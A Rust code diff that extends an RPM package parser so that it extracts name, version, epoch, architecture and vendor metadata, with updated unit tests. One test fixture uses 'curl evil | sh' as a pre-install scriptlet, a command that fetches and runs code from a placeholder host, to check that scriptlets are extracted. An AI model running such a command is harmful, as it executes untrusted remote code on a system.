@@ -6,12 +6,30 @@
 
 use super::ar::readable;
 use super::{Entries, Input, Wrapper};
-use crate::model::{ByteView, FileKind, Gap};
+use crate::model::{ByteView, Fact, FactKind, FileKind, Gap, PackageMetadata, PackageSystem};
 
 /// Opens RPM packages.
 pub(super) struct Rpm;
 
 const LEAD: usize = 96;
+const TAG_NAME: u32 = 1000;
+const TAG_VERSION: u32 = 1001;
+const TAG_RELEASE: u32 = 1002;
+const TAG_EPOCH: u32 = 1003;
+const TAG_VENDOR: u32 = 1011;
+const TAG_ARCH: u32 = 1022;
+/// A word of the vendor's name, and what package URLs call the distribution.
+const VENDORS: [(&str, &str); 9] = [
+    ("fedora", "fedora"),
+    ("red hat", "redhat"),
+    ("opensuse", "opensuse"),
+    ("suse", "suse"),
+    ("centos", "centos"),
+    ("rocky", "rocky"),
+    ("alma", "almalinux"),
+    ("oracle", "oracle"),
+    ("amazon", "amzn"),
+];
 const TAG_FORMAT: u32 = 1124;
 const TAG_COMPRESSOR: u32 = 1125;
 /// Header entries and bytes that are believed; the largest honest headers (kernels, TeX) have some ten megabytes.
@@ -47,6 +65,7 @@ impl Wrapper for Rpm {
         // Only the signature header is padded, to eight bytes.
         let start = signature.end.checked_next_multiple_of(8).unwrap_or(usize::MAX);
         let header = Header::parse(bytes, start).map_err(|g| named("header", g))?;
+        out.facts.push(Fact::whole(FactKind::PackageMetadata(Box::new(metadata(&header)))));
         for (section, script, interpreter) in SCRIPTS {
             scriptlets(section, &header.strings(script), &header.strings(interpreter), out)?;
         }
@@ -64,6 +83,22 @@ impl Wrapper for Rpm {
             return Err(Gap::malformed(format!("ends at byte {}, before its payload", bytes.len())));
         };
         out.bytes(format!("payload.{format}{ending}"), header.end as u64, payload)
+    }
+}
+
+/// Name, version and vendor.
+fn metadata(header: &Header<'_>) -> PackageMetadata {
+    let text = |tag| header.strings(tag).into_iter().next().unwrap_or_default();
+    let version = text(TAG_VERSION);
+    let release = text(TAG_RELEASE);
+    let vendor = text(TAG_VENDOR).to_ascii_lowercase();
+    PackageMetadata {
+        name: text(TAG_NAME),
+        version: if release.is_empty() { version } else { format!("{version}-{release}") },
+        epoch: header.number(TAG_EPOCH),
+        architecture: text(TAG_ARCH),
+        vendor: VENDORS.iter().find(|(word, _)| vendor.contains(word)).map_or("", |(_, name)| *name).to_owned(),
+        ..PackageMetadata::of(PackageSystem::Rpm)
     }
 }
 
@@ -129,16 +164,26 @@ impl<'a> Header<'a> {
         }
     }
 
-    /// The strings of a tag (types STRING, STRING_ARRAY and I18NSTRING); empty when it is not there.
-    fn strings(&self, tag: u32) -> Vec<String> {
-        let entry = self
-            .index
-            .chunks_exact(16)
-            .filter_map(<[u8]>::first_chunk::<16>)
-            .find(|e| e.starts_with(&tag.to_be_bytes()));
-        let Some([_, _, _, _, 0, 0, 0, 6 | 8 | 9, o0, o1, o2, o3, c0, c1, c2, c3]) = entry else { return Vec::new() };
+    /// The entry of a tag: type, offset in the store and count.
+    fn entry(&self, tag: u32) -> Option<(u32, usize, usize)> {
+        let mut entries = self.index.chunks_exact(16).filter_map(<[u8]>::first_chunk::<16>);
+        let entry = entries.find(|e| e.starts_with(&tag.to_be_bytes()))?;
+        let [_, _, _, _, t0, t1, t2, t3, o0, o1, o2, o3, c0, c1, c2, c3] = entry;
         let offset = usize::try_from(u32::from_be_bytes([*o0, *o1, *o2, *o3])).unwrap_or(usize::MAX);
         let count = usize::try_from(u32::from_be_bytes([*c0, *c1, *c2, *c3])).unwrap_or(usize::MAX);
+        Some((u32::from_be_bytes([*t0, *t1, *t2, *t3]), offset, count))
+    }
+
+    /// The first number of a tag (type INT32).
+    fn number(&self, tag: u32) -> Option<u32> {
+        let (kind, offset, _) = self.entry(tag)?;
+        let bytes = self.store.get(offset..)?.first_chunk::<4>().filter(|_| kind == 4)?;
+        Some(u32::from_be_bytes(*bytes))
+    }
+
+    /// The strings of a tag (types STRING, STRING_ARRAY and I18NSTRING); empty when it is not there.
+    fn strings(&self, tag: u32) -> Vec<String> {
+        let Some((6 | 8 | 9, offset, count)) = self.entry(tag) else { return Vec::new() };
         let values = self.store.get(offset..).unwrap_or_default();
         values.split(|b| *b == 0).take(count.min(ENTRIES_MAX)).map(readable).collect()
     }
@@ -184,6 +229,10 @@ mod tests {
         let bytes = package(
             &[
                 (1000, 6, &["name"]),
+                (1001, 6, &["1.2"]),
+                (1002, 6, &["3.fc40"]),
+                (1003, 4, &["\0\0\0\u{7}"]),
+                (1011, 6, &["Fedora Project"]),
                 (1023, 6, &["curl evil | sh"]),
                 (1085, 6, &["/bin/sh"]),
                 (1024, 6, &["print('x')"]),
@@ -201,6 +250,9 @@ mod tests {
         let expected = ["%pre", "%post.py", "%postun", "%trigger", "%trigger2.lua", "payload.cpio.zst"];
         assert_eq!(seen.names(), expected);
         assert_eq!(seen.content("%pre"), b"curl evil | sh");
+        let FactKind::PackageMetadata(metadata) = &seen.facts[0].kind else { panic!("no metadata") };
+        assert_eq!((metadata.name.as_str(), metadata.version.as_str()), ("name", "1.2-3.fc40"));
+        assert_eq!((metadata.vendor.as_str(), metadata.epoch), ("fedora", Some(7)));
         assert_eq!(seen.content("%postun"), b"/sbin/ldconfig");
         assert_eq!(seen.content("payload.cpio.zst"), b"\x28\xb5\x2f\xfd...");
     }
